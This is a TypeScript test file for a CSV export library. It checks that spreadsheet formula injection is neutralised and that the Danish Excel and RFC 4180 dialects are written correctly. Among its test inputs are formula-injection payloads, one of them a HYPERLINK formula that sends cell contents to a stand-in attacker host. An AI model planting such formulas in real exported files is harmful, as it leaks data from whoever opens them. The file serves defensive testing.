import fc from 'fast-check';
import Papa from 'papaparse';
import { describe, expect, it } from 'vitest';
import { looksLikeFormula, neutraliseFormula, safeCell } from '@/lib/csv/safe-cell';
import { csvField, EXCEL_DA, objectsToCsv, RFC4180, toCsv, UTF8_BOM } from '@/lib/csv/write';

const parse = (text: string, delimiter: string) =>
  Papa.parse<string[]>(text.startsWith(UTF8_BOM) ? text.slice(1) : text, {
    delimiter,
    skipEmptyLines: true,
  });

describe('safeCell: stored text cannot become a formula', () => {
  it.each([
    ['=1+1', "'=1+1"],
    ['+45 12 34 56 78', "'+45 12 34 56 78"],
    ['-2+3', "'-2+3"],
    ['@SUM(A1:A2)', "'@SUM(A1:A2)"],
    ['\t=cmd', "'\t=cmd"],
    ['\r=cmd', "'\r=cmd"],
    ['＝HYPERLINK("http://x")', '\'＝HYPERLINK("http://x")'],
    ['=HYPERLINK("http://evil.example/?"&A1,"Klik")', '\'=HYPERLINK("http://evil.example/?"&A1,"Klik")'],
  ])('neutralises %j', (input, expected) => {
    expect(safeCell(input)).toBe(expected);
  });

  it('leaves ordinary text, numbers and empty cells alone', () => {
    expect(safeCell('Energi & klima <b>')).toBe('Energi & klima <b>');
    expect(safeCell("O'Brien")).toBe("O'Brien");
    expect(safeCell(-42)).toBe('-42');
    expect(safeCell(16500)).toBe('16500');
    expect(safeCell(null)).toBe('');
    expect(safeCell(undefined)).toBe('');
    expect(safeCell(Number.NaN)).toBe('');
    expect(safeCell(Number.POSITIVE_INFINITY)).toBe('');
    expect(safeCell(12n)).toBe('12');
    expect(safeCell(true)).toBe('true');
    expect(safeCell(new Date('2026-01-02T03:04:05Z'))).toBe('2026-01-02T03:04:05.000Z');
  });

  it('never returns text that looks like a formula, and only ever prefixes', () => {
    fc.assert(
      fc.property(fc.string({ unit: 'grapheme' }), (text) => {
        const cell = safeCell(text);
        expect(looksLikeFormula(cell)).toBe(false);
        expect(cell === text || cell === `'${text}`).toBe(true);
      }),
      { numRuns: 2000 },
    );
  });

  it('is idempotent', () => {
    fc.assert(
      fc.property(fc.string(), (text) => {
        expect(neutraliseFormula(neutraliseFormula(text))).toBe(neutraliseFormula(text));
      }),
    );
  });
});

describe('CSV writer', () => {
  it('writes Danish Excel CSV: BOM, semicolons, decimal comma, CRLF', () => {
    const text = toCsv(['Navn', 'Andel', 'Antal'], [['Fødevare-klyngen; Syd', 0.25, -3]], EXCEL_DA);
    expect(text).toBe(`${UTF8_BOM}Navn;Andel;Antal\r\n"Fødevare-klyngen; Syd";0,25;-3\r\n`);
  });

  it('writes RFC 4180 CSV: commas, no BOM, quotes doubled', () => {
    expect(toCsv(['a', 'b'], [['say "hi"', 'x,y']], RFC4180)).toBe('a,b\r\n"say ""hi""","x,y"\r\n');
    expect(csvField('line\nbreak')).toBe('"line\nbreak"');
  });

  it('maps objects by columns and neutralises headers as well as cells', () => {
    const text = objectsToCsv(
      [
        { header: '=Navn', value: (row: { name: string; n: number }) => row.name },
        { header: 'N', value: (row) => row.n },
      ],
      [{ name: '@evil', n: 1 }],
    );
    expect(text).toBe("'=Navn,N\r\n'@evil,1\r\n");
  });

  it('round-trips any table through a CSV parser, in both dialects, with no formula left', () => {
    const cell = fc.oneof(
      fc.string({ unit: 'grapheme', maxLength: 40 }),
      fc.constantFrom('=1+1', '+1', '-1', '@x', '\t=x', '\r\n=x', '";=x', ';', ',', '"'),
    );
    const table = fc.array(fc.array(cell, { minLength: 3, maxLength: 3 }), { minLength: 1, maxLength: 8 });
    // three columns: even an all-empty row is a line of delimiters, not an empty line
    fc.assert(
      fc.property(table, fc.constantFrom(EXCEL_DA, RFC4180), (rows, dialect) => {
        const text = toCsv(['a', 'b', 'c'], rows, dialect);
        const parsed = parse(text, dialect.delimiter);
        expect(parsed.errors).toEqual([]);
        expect(parsed.data.slice(1)).toEqual(rows.map((row) => row.map((value) => safeCell(value))));
        for (const row of parsed.data) for (const value of row) expect(looksLikeFormula(value)).toBe(false);
      }),
      { numRuns: 500 },
    );
  });
});
